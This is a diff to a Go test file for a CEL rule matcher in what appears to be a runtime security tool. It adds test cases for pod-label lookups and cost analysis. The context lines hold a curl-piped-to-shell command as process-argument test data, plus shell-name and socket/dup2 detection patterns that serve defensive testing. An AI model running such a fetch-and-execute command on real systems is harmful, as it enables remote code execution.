@@ -49,6 +49,10 @@ func TestExplain(t *testing.T) {
 			{Text: `process.cwd == '/tmp'`, Line: 1, Col: 1, Truth: celenv.Undecided, Values: []celenv.Value{{Name: "process.cwd", Missing: true}}},
 			{Text: `process.args[7] == "x"`, Line: 1, Col: 26, Truth: celenv.Failed, Values: value("process.args", `["bash" "-c" "curl http://10.0.0.1/x | SH"]`)},
 		}},
+		{`pod.labels[?'no'].orValue('x') in ['x', 'y'] && process.pid >= 0`, []match.Term{
+			{Text: `pod.labels[?'no'].orValue('x') in ['x', 'y']`, Line: 1, Col: 1, Truth: celenv.True, Values: value("pod.labels", `{}`)},
+			{Text: `process.pid >= 0`, Line: 1, Col: 49, Truth: celenv.True, Values: value("process.pid", "3985")},
+		}},
 		{"variables.isShell &&\n  !(process.name == 'zsh' || variables.isShell)", []match.Term{
 			{Text: `process.name in ['sh', 'bash', 'dash', 'ash', 'zsh', 'ksh', 'csh', 'tcsh', and 1 more]`, In: "variables.isShell", Line: 1, Col: 1,
 				Truth: celenv.True, Found: []string{"bash"}, Values: value("process.name", "bash")},
@@ -106,6 +110,7 @@ func TestInfo(t *testing.T) {
 	}{
 		{`process.args[1] == '-c' || process.uid == 0`, match.Info{Lazy: 1, Opaque: []string{`process.args[1] == "-c"`}, Cost: match.CostOpaque}},
 		{`process.cmdline.matches('[0-9]+') && process.name != 'x'`, match.Info{Atoms: 1, Lazy: 1, Cost: match.CostRegexp}},
+		{`pod.labels.?app.orValue('') in ['a', 'b'] && process.pid > 1`, match.Info{Indexed: true, Needs: []string{`process.pid > 1`}, Lazy: 2, Cost: match.CostIndexed}},
 		{`process.name != 'x'`, match.Info{Atoms: 1, Cost: match.CostCheap}},
 		{`process.cmdline.matches('a+b*c') && process.uid > 3`, match.Info{Indexed: true, Needs: []string{`process.uid > 3`}, Lazy: 2, Cost: match.CostIndexed}},
 		{`process.cmdline.matches('(?i)socket[0-9]+|dup2')`, match.Info{Indexed: true, Needs: []string{`process.cmdline.lowerAscii().contains('dup2')`, `process.cmdline.lowerAscii().contains('oc')`},
